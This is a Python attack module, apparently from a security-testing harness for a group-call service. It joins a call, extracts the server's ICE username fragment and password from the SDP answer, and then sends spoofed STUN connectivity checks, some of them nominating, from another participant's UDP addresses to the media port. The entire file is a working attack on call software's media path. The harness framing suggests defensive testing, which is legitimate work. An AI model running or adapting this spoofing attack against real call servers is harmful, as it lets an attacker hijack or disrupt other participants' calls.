"""Connectivity checks with one's own credentials, sent from the address of somebody else in the call."""

import secrets
import time

from tools import stun
from tools.datagrams import SpoofingSocket, udp_addresses
from tools.target import HOST, Attack, Outcome, Target
from tools.wire import Session, offer

SECONDS = 12
CHECKS_A_SECOND = 20


def run(target: Target) -> Outcome:
    outcome = Outcome()
    session = Session(target, target.user())
    ufrag, password = secrets.token_hex(4), secrets.token_hex(12)
    reply = session.request("call.join", groupId=target.group, muted=True, media=offer(ufrag, password))
    lines = reply["media"]["sdp"].splitlines()
    answer = dict(line[2:].split(":", 1) for line in lines if line.startswith(("a=ice-ufrag:", "a=ice-pwd:")))
    victims = udp_addresses(target.caller_pid)
    spoofing = SpoofingSocket()
    end = time.monotonic() + SECONDS
    sent = 0
    while time.monotonic() < end:
        for victim in victims:
            check = stun.check(answer["ice-ufrag"], ufrag, answer["ice-pwd"], nominate=sent % 2 == 1)
            outcome.sent_bytes += spoofing.send(check, victim, (HOST, target.media_port))
        sent += 1
        if sent % (CHECKS_A_SECOND * 3) == 0:
            session.request("media.servers")  # a sign of life
        time.sleep(1 / CHECKS_A_SECOND)
    spoofing.close()
    outcome.findings.append(f"{sent} checks from each of {len(victims)} addresses of the healthy call")
    return outcome


ATTACKS = {
    "taken-address": Attack("Checks from another participant's address", "a user who can spoof sources", SECONDS, run)
}
